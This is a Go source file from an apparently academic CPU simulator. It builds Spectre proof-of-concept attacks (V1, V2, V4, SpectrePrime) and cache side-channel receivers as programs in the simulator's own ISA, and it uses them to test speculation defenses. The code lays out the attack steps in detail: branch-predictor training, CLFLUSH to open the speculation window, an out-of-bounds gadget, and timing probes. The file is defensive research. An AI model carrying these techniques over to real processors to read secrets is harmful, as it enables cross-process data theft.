// Package attack implements end-to-end Spectre proofs of concept inside the
// simulator: the transient-execution variants the paper defends against
// (V1, V2, V4 and SpectrePrime) paired with the six cache side-channel
// receivers of Table IV (Flush+Reload, Flush+Flush and Evict+Reload over
// shared memory; Prime+Probe over shared and non-shared memory; Evict+Time
// over non-shared memory).
//
// Every scenario is a complete guest program written in the conspec ISA: it
// trains the predictor or poisons the BTB, constructs the long speculation
// window with CLFLUSH-evicted operands, triggers the victim gadget, reads
// the side channel with RDCYCLE, and writes the bytes it recovered into a
// result buffer that the Go harness compares against the planted secret.
// Running the same program under each Conditional Speculation mechanism
// regenerates Table IV: the attack either recovers the secret (leak) or
// reads noise (defended).
package attack

import (
	"fmt"

	"conspec/internal/asm"
	"conspec/internal/config"
	"conspec/internal/core"
	"conspec/internal/isa"
	"conspec/internal/obs"
	"conspec/internal/pipeline"
)

// Memory layout shared by all scenarios. Regions sit on distinct pages (and
// distinct L1 sets where the receivers require it).
const (
	codeBase   = 0x1_0000
	boundAddr  = 0x20_0000  // victim bound variable (flushed to open the window)
	array1Addr = 0x30_0000  // victim array1 (in-bounds data)
	secretAddr = 0x40_0000  // the victim's secret bytes
	fptrAddr   = 0x50_0000  // V2: victim's function-pointer slot
	slotAddr   = 0x60_0000  // V4: victim's store/load slot
	shiftyAddr = 0x68_0000  // V4: flushed word delaying the store address
	resultAddr = 0x70_0000  // recovered bytes, one per secret byte
	array2Addr = 0x100_0000 // shared probe region (probeEntries pages)
	evictAddr  = 0x800_0000 // attacker's private eviction buffer
)

// probeEntries is the number of guess values per secret byte. Secrets are
// 6-bit (1..63); guess 0 is excluded because training traffic warms it.
const probeEntries = 64

// pageShift is the transmission stride for shared-memory receivers: one
// page per value, the Flush+Reload layout the paper's S-Pattern targets.
const pageShift = 12

// setShift is the transmission stride for set-granular receivers
// (Prime+Probe / Evict+Time): one L1 line per value.
const setShift = 6

// defaultSecret is planted in guest memory; all values are 6-bit, non-zero.
var defaultSecret = []byte{0x1F, 0x2A, 0x33, 0x04, 0x15, 0x26, 0x37, 0x08}

// Attacker-program register conventions (beyond the asm package roles).
const (
	rByteIdx = asm.S0      // current secret byte index
	rBestLat = asm.S1      // best probe latency so far
	rBestVal = asm.S2      // argbest guess
	rGuess   = asm.S3      // probe loop counter
	rA1      = asm.Reg(24) // array1 base
	rA2      = asm.Reg(25) // transmission base
	rBound   = asm.Reg(26) // bound address
	rRes     = asm.Reg(27) // result buffer base
	rDelta   = asm.Reg(4)  // secretAddr - array1Addr (OOB index offset)
	rEvict   = asm.Reg(16) // eviction buffer base
	rSlot    = asm.Reg(3)  // V4: slot address
	rShifty  = asm.Reg(17) // V4: delay-word address
	rFptr    = asm.A1      // V2: function-pointer slot address
	rTmpA    = asm.T0
	rTmpB    = asm.T1
)

// Harness bundles a ready-to-run attack program.
type Harness struct {
	Name string
	// Class is the Table IV row this scenario belongs to.
	Class string
	// SharedMemory distinguishes the first four Table IV rows from the
	// last two.
	SharedMemory bool
	// Variant names the transient-execution trigger (V1, V2, V4, Prime).
	Variant string

	Prog      *asm.Program
	Secret    []byte
	MaxCycles uint64

	// seed populates guest memory beyond the program image.
	seed func(m *isa.FlatMem)
	// prewarm lists data addresses warmed into the cache before the run
	// (the victim's recently-used lines, e.g. its secret).
	prewarm []uint64
}

// Outcome reports one attack run.
type Outcome struct {
	Scenario string
	// Defense is the registry row the run's security configuration names;
	// its title labels the outcome.
	Defense core.Defense
	// SharedMemory is the scenario's receiver class (Harness.SharedMemory):
	// with Defense it gives the expected verdict, Defense.Closes.
	SharedMemory bool
	Recovered    []byte
	Secret       []byte
	Correct      int
	// Leaked is true when at least half the secret bytes were recovered —
	// an attack with that hit rate trivially amplifies to full recovery.
	Leaked bool
	Cycles uint64
	// Flight is the machine's flight-recorder dump at the end of a LEAKED
	// run, when the caller armed a recorder via RunWith's setup hook (e.g.
	// a fault-injection campaign convicting a silently-disabled mechanism).
	// Nil for defended runs and unarmed machines.
	Flight *obs.FlightDump
}

func (o Outcome) String() string {
	status := "DEFENDED"
	if o.Leaked {
		status = "LEAKED"
	}
	return fmt.Sprintf("%-28s %-34s %d/%d bytes  %s",
		o.Scenario, o.Defense.Title(), o.Correct, len(o.Secret), status)
}

// Run executes the scenario on a fresh machine under the given mechanism.
func (h *Harness) Run(cfg config.Core, sec pipeline.SecurityConfig) Outcome {
	return h.RunWith(cfg, sec, nil)
}

// RunWith is Run with an observability hook: setup (if non-nil) receives
// the freshly built CPU before the first cycle, so callers can attach
// event sinks or a metric registry and watch the attack execute. Attached
// sinks are flushed before the outcome is read.
func (h *Harness) RunWith(cfg config.Core, sec pipeline.SecurityConfig,
	setup func(*pipeline.CPU)) Outcome {
	backing := isa.NewFlatMem()
	h.Prog.Load(backing)
	if h.seed != nil {
		h.seed(backing)
	}
	cpu := pipeline.NewWithMemory(cfg, sec, backing)
	if setup != nil {
		setup(cpu)
	}
	for _, addr := range h.prewarm {
		cpu.Hierarchy().AccessData(addr, false)
	}
	cpu.SetPC(h.Prog.Base)
	maxCycles := h.MaxCycles
	if maxCycles == 0 {
		maxCycles = 30_000_000
	}
	res := cpu.Run(maxCycles)
	if !cpu.Halted() {
		msg := fmt.Sprintf("attack %s: did not halt in %d cycles", h.Name, maxCycles)
		if err := cpu.Err(); err != nil {
			msg += ": " + err.Error()
		}
		panic(msg)
	}
	if err := cpu.FlushSinks(); err != nil {
		panic(fmt.Sprintf("attack %s: flushing sinks: %v", h.Name, err))
	}

	recovered := make([]byte, len(h.Secret))
	correct := 0
	for i := range h.Secret {
		recovered[i] = backing.ByteAt(resultAddr + uint64(i))
		if recovered[i] == h.Secret[i] {
			correct++
		}
	}
	def, _ := core.DefenseFor(sec.Mechanism, sec.SSBD) // NewWithMemory panics on a mechanism without a row
	out := Outcome{
		Scenario:     h.Name,
		Defense:      def,
		SharedMemory: h.SharedMemory,
		Recovered:    recovered,
		Secret:       append([]byte(nil), h.Secret...),
		Correct:      correct,
		Leaked:       correct*2 >= len(h.Secret),
		Cycles:       res.Cycles,
	}
	if out.Leaked {
		// A conviction: snapshot the armed recorder (nil when unarmed) so
		// the dump shows the machinery that let the secret out.
		out.Flight = cpu.DumpFlight()
	}
	// The outcome is read from backing memory, not the caches, so the
	// tag arrays can go to the next machine now. A run that panicked above
	// keeps its caches.
	cpu.Release()
	return out
}

// seedCommon plants the victim data every scenario shares.
func seedCommon(secret []byte) func(m *isa.FlatMem) {
	return func(m *isa.FlatMem) {
		m.Write(boundAddr, 8, 16) // bound = 16: indices 0..15 are in bounds
		for i := 0; i < 16; i++ {
			m.SetByte(array1Addr+uint64(i), 0) // benign in-bounds data
		}
		m.SetBytes(secretAddr, secret)
	}
}

// --- shared emit helpers ----------------------------------------------------

// emitProloguePointers loads the base registers every scenario uses.
func emitProloguePointers(b *asm.Builder, transBase uint64) {
	b.Li64(rA1, array1Addr)
	b.Li64(rA2, transBase)
	b.Li64(rBound, boundAddr)
	b.Li64(rRes, resultAddr)
	b.Li64(rDelta, secretAddr-array1Addr)
	b.Li64(rEvict, evictAddr)
}

// emitGHRNormalize emits a run of always-taken branches that forces the
// global history register into a known state, so the victim branch's PHT
// index is identical during training and during the triggering call no
// matter what loop control ran in between.
func emitGHRNormalize(b *asm.Builder, id string) {
	for i := 0; i < 14; i++ {
		l := asm.Label(fmt.Sprintf("ghr_%s_%d", id, i))
		b.Beq(asm.Zero, asm.Zero, l)
		b.Bind(l)
	}
}

// emitV1Gadget emits the victim's bounds-check-bypass gadget:
//
//	if (x < bound) { y = trans[array1[x] << shift]; }
//
// x arrives in A0; the gadget returns through RA. The in-bounds (taken
// fall-through) path is the one the attacker trains.
func emitV1Gadget(b *asm.Builder, shift int32) {
	b.Bind("gadget")
	b.Ld(rTmpA, rBound, 0)              // bound (flushed before the trigger)
	b.Bgeu(asm.A0, rTmpA, "gadget_out") // x >= bound: skip
	b.Add(rTmpB, rA1, asm.A0)           //
	b.Ld1(asm.T2, rTmpB, 0)             // A: array1[x] — the secret when OOB
	b.Shli(asm.T3, asm.T2, shift)       //
	b.Add(asm.T4, rA2, asm.T3)          //
	b.Ld1(asm.T5, asm.T4, 0)            // B: the transmission
	b.Bind("gadget_out")
	b.Ret()
}

// emitTrainV1 emits n in-bounds calls to the gadget (x=0), each preceded by
// the GHR normalizer so the training hits the same PHT entry as the attack.
func emitTrainV1(b *asm.Builder, id string, n int) {
	for i := 0; i < n; i++ {
		emitGHRNormalize(b, fmt.Sprintf("%s_t%d", id, i))
		b.Li(asm.A0, 0)
		b.Jal(asm.RA, "gadget")
	}
}

// emitFlushBound flushes the bound variable so the victim branch's operand
// load misses all the way to memory, opening the speculation window.
func emitFlushBound(b *asm.Builder) {
	b.Clflush(rBound, 0)
	b.Fence()
}

// emitFlushTransmission flushes every line of the shared transmission
// region (stride = 1<<shift bytes per value).
func emitFlushTransmission(b *asm.Builder, id string, shift int32) {
	l := asm.Label("flush_" + id)
	b.Li(rGuess, 0)
	b.Bind(l)
	b.Shli(rTmpA, rGuess, shift)
	b.Add(rTmpA, rA2, rTmpA)
	b.Clflush(rTmpA, 0)
	b.Addi(rGuess, rGuess, 1)
	b.Li(rTmpB, probeEntries)
	b.Blt(rGuess, rTmpB, l)
	b.Fence()
}

// emitTriggerV1 emits the out-of-bounds call: x = (secretAddr - array1Addr)
// + byteIdx, so array1[x] IS the current secret byte.
func emitTriggerV1(b *asm.Builder, id string) {
	emitGHRNormalize(b, id+"_trig")
	b.Add(asm.A0, rDelta, rByteIdx)
	b.Jal(asm.RA, "gadget")
	b.Fence() // drain the squash before probing
}

// emitStoreResult writes the recovered byte for the current secret index.
func emitStoreResult(b *asm.Builder) {
	b.Add(rTmpA, rRes, rByteIdx)
	b.St1(rBestVal, rTmpA, 0)
}

// emitOuterLoop wraps body in the per-secret-byte loop and appends HALT.
// The whole sweep runs twice: the first pass trains every cold predictor
// structure (the GHR-normalizer branches included), and the second pass —
// whose recoveries overwrite the first's — reads the channel with the
// machine in steady state, exactly how real PoCs repeat until stable.
func emitOuterLoop(b *asm.Builder, secretLen int, body func()) {
	const rPass = asm.SP // x2 is unused by attack code otherwise
	b.Li(rPass, 0)
	b.Bind("outer_pass")
	b.Li(rByteIdx, 0)
	b.Bind("outer")
	body()
	b.Addi(rByteIdx, rByteIdx, 1)
	b.Li(rTmpA, int32(secretLen))
	b.Blt(rByteIdx, rTmpA, "outer")
	b.Addi(rPass, rPass, 1)
	b.Li(rTmpA, 2)
	b.Blt(rPass, rTmpA, "outer_pass")
	b.Halt()
}
